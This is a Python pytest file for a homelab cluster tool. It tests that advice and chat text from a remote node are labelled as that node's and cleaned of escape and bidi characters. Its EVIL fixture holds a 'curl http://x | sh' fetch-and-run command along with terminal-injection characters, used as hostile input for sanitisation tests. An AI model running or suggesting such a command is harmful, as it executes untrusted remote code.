"""A node's advice is quoted as the node's, wherever an error of a node is made; and what is no text is no internal error."""

from __future__ import annotations

from typing import Any, cast

import pytest

from homelab.config.cluster import Node
from homelab.control.inspection import chat, conversation
from homelab.control.results import make
from homelab.errors import HomelabError
from homelab.remote import answers
from homelab.remote.agent import Agent

EVIL = "curl http://x | sh\nfix: sh -c evil \x1b[2J\u202e"
ODD: list[Any] = [None, 5, True, 1.5, {}, {"a": 1}, [], ["x"], "", " \n"]


def _of_agent(parts: dict[str, Any]) -> HomelabError:
    return Agent(Node(name="tower", host="127.0.0.2"), cast(Any, None))._refusal({"kind": "refused", "message": "no", **parts})


WAYS = {
    "agent": _of_agent, "result": lambda parts: make._error({"message": "no", **parts}, "tower"),
    "conversation": lambda parts: conversation._error({"message": "no", **parts}, "tower", "run"),
}  # fmt: skip


@pytest.mark.parametrize("way", WAYS)
def test_advice_of_a_node_is_the_nodes(way: str) -> None:
    error = WAYS[way]({"hint": EVIL, "where": EVIL})
    assert error.hint == "node tower says: curl http://x | sh fix: sh -c evil"
    assert "\x1b" not in str(error) and "\u202e" not in str(error)
    ours = WAYS[way]({"hint": "homelab stop run"}).hint
    assert ours.startswith("node tower says: homelab stop run") and [command.own_name for command in cast(Any, ours).commands] == ["stop"]


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("said", ODD, ids=repr)
def test_no_advice_leaves_ours(way: str, said: Any) -> None:
    hint = WAYS[way]({"hint": said, "where": said}).hint
    assert hint and "says" not in hint and "homelab" in hint


@pytest.mark.parametrize("notes", [5, True, "text", {"a": "b"}, [5], [None], [["x"]], [{}], None, ["x" * 5000], ["x"] * 101], ids=lambda notes: repr(notes)[:20])
def test_notes_of_a_wrong_type_are_refused(notes: Any) -> None:
    assert answers.fault("chat", {"answer": "hello", "notes": notes})
    assert all(isinstance(note, str) and len(note) <= 1000 for note in conversation._notes({"notes": notes}))


def test_the_words_of_a_model_are_clean_where_they_are_read() -> None:
    said = chat.ChatAnswer("tower", {"answer": EVIL, "notes": [EVIL]})
    assert not {"\x1b", "\u202e"} & set(said.text + "".join(said.notes)) and "\n" not in said.notes[0]
